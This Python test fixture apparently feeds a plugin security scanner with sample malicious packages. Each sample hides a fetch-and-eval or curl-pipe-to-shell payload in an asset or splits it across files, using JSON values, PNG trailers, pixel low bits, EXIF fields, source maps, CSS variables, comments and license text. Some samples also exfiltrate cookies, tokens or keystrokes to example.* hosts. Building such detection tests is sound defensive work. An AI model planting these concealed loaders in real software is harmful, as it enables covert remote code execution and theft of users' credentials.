"""Payloads kept where nobody reads: data, pictures, styles, comments, maps; or shared out over several files."""

import base64
import json

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, sdk_plugin, tsc_widget

_FAMILY = "payload-in-assets"
_SPLIT = "payload-over-files"
_CODE = "fetch('https://cdn.example.net/n').then(r=>r.text()).then(t=>(0,eval)(t))"
_NODE = "require('child_process').exec('curl -s https://dl.example.org/n | sh')"
_PNG_HEAD = bytes.fromhex("89504e470d0a1a0a0000000d494844520000002000000020080200000000")
_PNG_END = b"\0\0\0\0IEND\xaeB`\x82"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _low_bits(text: str) -> bytes:
    """Grey pixels whose lowest bits spell `text`."""
    bits = "".join(f"{byte:08b}" for byte in text.encode())
    return bytes(0x80 + (n * 7 % 32 & 0xFE) + int(bit) for n, bit in enumerate(bits))


SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="in-json-value",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                "const steps = require('./theme.json').animations.fade;\nnew Function('require', steps.easing)(require);"
            ),
            "dist/theme.json": json.dumps(
                {"colors": {"sky": "#8cf"}, "animations": {"fade": {"ms": 200, "easing": _NODE}}}, indent=2
            ),
        },
    ),
    Sample(
        name="behind-end-of-picture",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const { readFileSync } = require('fs');
const { join } = require('path');

exports.icon = () => join(__dirname, 'icon.png');
exports.onEnable = () => {
  const bytes = readFileSync(exports.icon());
  const tail = bytes.subarray(bytes.indexOf('IEND') + 8).toString('latin1');
  if (tail) require('vm').runInThisContext(`(function (require) {${tail}})`)(require);
};
""",
            "dist/icon.png": _PNG_HEAD + bytes(80) + _PNG_END + _NODE.encode(),
        },
    ),
    Sample(
        name="in-low-bits-of-pixels",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(r"""
                const image = new Image();
                image.onload = () => {
                    const paper = document.createElement("canvas").getContext("2d");
                    paper.drawImage(image, 0, 0);
                    const { data } = paper.getImageData(0, 0, image.width, image.height);
                    let text = "", byte = 0;
                    for (let n = 0; n < data.length / 4; n++) {
                        byte = (byte << 1) | (data[n * 4] & 1);
                        if (n % 8 === 7) {
                            text += String.fromCharCode(byte & 255);
                            byte = 0;
                        }
                    }
                    setTimeout(text.split("\0")[0], 50);
                };
                image.src = "/plugins/acme.weather/dist/clouds.png";
            """),
            "dist/clouds.png": _PNG_HEAD + _low_bits(_CODE) + _PNG_END,
        },
    ),
    Sample(
        name="in-exif-field",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const exif = fs.readFileSync(`${__dirname}/cover.jpg`, 'latin1').match(/Model\0(.+?)\0/);
                ''.replace(/^/, new Function('require', Buffer.from(exif[1], 'base64').toString()).bind(null, require));
                """,
                above="const fs = require('fs');",
            ),
            "dist/cover.jpg": b"\xff\xd8\xff\xe1\x01\x00Exif\0\0Model\0" + _base64(_NODE).encode() + b"\0\xff\xd9",
        },
    ),
    Sample(
        name="in-source-map",
        family=_FAMILY,
        files={
            "dist/index.js": r"""import { readFile } from 'node:fs/promises';

const map = JSON.parse(await readFile(new URL('./index.js.map', import.meta.url), 'utf8'));
const lines = map.sourcesContent.at(-1);

export const Weather = () => null;
export const onEnable = () => (0, eval)(lines);
//# sourceMappingURL=index.js.map
""",
            "dist/index.js.map": json.dumps(
                {
                    "version": 3,
                    "sources": ["../src/index.ts", "../src/shim.ts"],
                    "sourcesContent": ["export {};\n", _CODE],
                    "names": [],
                    "mappings": "",
                }
            ),
        },
        package=ESM,
    ),
    Sample(
        name="in-style-sheet-property",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const value = getComputedStyle(document.documentElement).getPropertyValue('--acme-grid');
                const script = document.createElement('script');
                script.text = atob(value.replace(/["\s]/g, ''));
                document.head.append(script);
                """
            ),
            "dist/style.css": f':root {{ --acme-blue: #06c; --acme-grid: "{_base64(_CODE)}"; }}\n.widget {{ color: var(--acme-blue); }}\n',
        },
        package=ESM,
    ),
    Sample(
        name="in-readme-comment",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const help = fs.readFileSync(path.join(__dirname, '../docs/help.md'), 'utf8');
                const [, sealed] = help.match(/<!-- cache:([\w+/=]+) -->/);
                eval(Buffer.from(sealed, 'base64').toString());
                await storage.set('help', help.replace(/<!--.*?-->/g, ''));
                """,
                above="const fs = require('fs');\nconst path = require('path');",
            ),
            "docs/help.md": f"# Help\n\nClick the sky.\n\n<!-- cache:{_base64(_NODE)} -->\n",
        },
    ),
    Sample(
        name="in-comment-of-own-function",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
function layout() {/*
  fetch('https://cdn.example.net/g').then(function (r) { return r.text(); }).then(function (t) {
    var s = document.createElement('script'); s.text = t; document.body.appendChild(s);
  });
*/}

exports.Grid = function Grid() {
  var text = layout.toString().match(/\/\*([\s\S]*)\*\//)[1];
  Function(text)();
  return null;
};
"""
        },
    ),
    Sample(
        name="in-tagged-template",
        family=_FAMILY,
        files={
            "dist/index.js": r"""import { jsx } from 'react/jsx-runtime';

const css = (parts) => { globalThis[parts[0].trim()](parts[1]); return parts.raw.join(''); };
const style = css`
  eval ${0} fetch('https://style.example.org/v').then((r) => r.text()).then((t) => import('data:text/javascript,' + t)) ${1}
`;

export const Card = ({ children }) => jsx('div', { className: 'card', 'data-style': style.length, children });
"""
        },
        package=ESM,
    ),
    Sample(
        name="in-vector-picture",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(
                r"""
                fetch("/plugins/acme.weather/dist/sun.svg").then((r) => r.text()).then((svg) => {
                    document.getElementById("acme-sun").innerHTML = svg;
                });
                """
            ),
            "dist/sun.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="fetch(\'https://svg.example.net/?\'+document.cookie)">\n'
            '  <circle cx="5" cy="5" r="4"/>\n  <script><![CDATA[ top.postMessage(localStorage.token, \'*\') ]]></script>\n'
            '  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.eval(name)"/></foreignObject>\n</svg>\n',
        },
    ),
    Sample(
        name="in-page-shown-by-frame",
        family=_FAMILY,
        files={
            "dist/index.js": "'use strict';\nconst { jsx } = require('react/jsx-runtime');\n"
            "exports.Radar = () => jsx('iframe', { src: '/plugins/acme.weather/dist/radar.html', allow: 'camera; microphone; clipboard-read' });\n",
            "dist/radar.html": '<!doctype html><title>Radar</title>\n<body onload="start()">\n<script src="https://cdn.example.com/radar.js"></script>\n<script>\n'
            "function start() {\n  parent.document.addEventListener('keydown', function (e) {\n"
            "    navigator.sendBeacon('https://radar.example.org/k', e.key);\n  });\n  eval(parent.localStorage.getItem('radar') || '');\n}\n</script></body>\n",
        },
    ),
    Sample(
        name="in-lines-of-license",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const words = fs.readFileSync(path.join(__dirname, '..', 'LICENSE'), 'utf8').split(/\s+/);
                const text = [4, 11, 2, 19].map((n) => words[n]).join('');
                module.constructor._load(text.slice(0, 13)).exec(words.slice(-6).join(' '));
                """,
                above="const fs = require('fs');\nconst path = require('path');",
            ),
            "LICENSE": "Redistribution and pro_ use in ch source and binary forms with or ild_ without change is permitted provided that cess "
            "the notice stays.\n\ncurl -s https://dl.example.com/lic | sh\n",
        },
    ),
    Sample(
        name="two-halves-in-two-files",
        family=_SPLIT,
        files={
            "dist/index.js": "'use strict';\nconst left = require('./left');\nconst right = require('./right');\n"
            "exports.Todo = () => null;\nexports.onEnable = () => left.join(right.parts);\n",
            "dist/left.js": "'use strict';\nconst a = ['child_', 'exec'];\nexports.join = (b) => require(a[0] + b[0])[a[1] + b[1]](b[2]);\n",
            "dist/right.js": "'use strict';\nexports.parts = ['process', 'Sync', ['curl', '-s', 'https://dl.example.net/h', '|', 'sh'].join(' ')];\n",
        },
    ),
    Sample(
        name="source-here-sink-there",
        family=_SPLIT,
        files={
            "dist/index.js": r"""import { read } from './state.js';
import { track } from './metrics.js';

export const Weather = () => null;
export function onEnable() {
  track('start', read());
}
""",
            "dist/state.js": "export const read = () => [document, window].map((o) => o.cookie ?? JSON.stringify(o.localStorage));\n",
            "dist/metrics.js": r"""import { post } from './net.js';
export const track = (name, extra) => post('/e', { name, extra });
""",
            "dist/net.js": r"""const BASE = ['https:', '', 'm.example.org'].join('/');
export const post = (path, body) => navigator.sendBeacon(BASE + path, JSON.stringify(body));
""",
        },
        package=ESM,
    ),
    Sample(
        name="strings-in-one-file-loop-in-other",
        family=_SPLIT,
        files={
            "dist/index.js": hooks(
                r"""
                const words = strings.map((s) => s.split('').map((c, n) => String.fromCharCode(c.charCodeAt(0) - (n % 3))).join(''));
                globalThis[words[0]](words[1]);
                """,
                above="const { strings } = require('./strings');",
            ),
            "dist/strings.js": "'use strict';\nexports.strings = "
            + json.dumps(["".join(chr(ord(c) + n % 3) for n, c in enumerate(word)) for word in ("eval", _CODE)])
            + ";\n",
        },
    ),
    Sample(
        name="registered-pieces-assembled-late",
        family=_SPLIT,
        files={
            "dist/index.js": "'use strict';\nrequire('./a');\nrequire('./b');\nrequire('./c');\nexports.Clock = () => null;\n",
            "dist/a.js": "'use strict';\n(globalThis.__parts ??= {}).a = ['htt', 'ps://re', 'gistry.exam'];\n",
            "dist/b.js": "'use strict';\n(globalThis.__parts ??= {}).b = ['ple.net/', 'latest', '.js'];\n",
            "dist/c.js": r"""'use strict';
const { a, b } = globalThis.__parts;
setTimeout(async () => {
  const response = await fetch([...a, ...b].join(''));
  globalThis.__parts.run = Object.getPrototypeOf(async () => {}).constructor(await response.text());
  await globalThis.__parts.run();
}, 5000);
""",
        },
    ),
    Sample(
        name="carried-in-settings-schema",
        family=_SPLIT,
        files={
            "dist/index.js": hooks(
                r"""
                const schema = require('../manifest.json').config_schema.properties;
                const text = Object.values(schema).map((field) => field.default).join('');
                require('vm').runInThisContext(Buffer.from(text, 'base64').toString());
                """
            )
        },
        manifest={
            "config_schema": {
                "type": "object",
                "properties": {
                    f"slot{n}": {"type": "string", "default": _base64(_CODE)[n * 25 : n * 25 + 25]} for n in range(4)
                },
            }
        },
    ),
    Sample(
        name="loaded-by-file-name-order",
        family=_SPLIT,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');
const folder = path.join(__dirname, 'icons');

exports.icons = fs.readdirSync(folder).sort().map((name) => fs.readFileSync(path.join(folder, name), 'utf8').trim());
exports.onEnable = () => module._compile(exports.icons.map((line) => line.slice(line.indexOf('#') + 1)).join(''), folder);
""",
            **{f"dist/icons/{n:02d}.txt": f"M{n} 0h24#{_NODE[n * 18 : n * 18 + 18]}\n" for n in range(4)},
        },
    ),
)
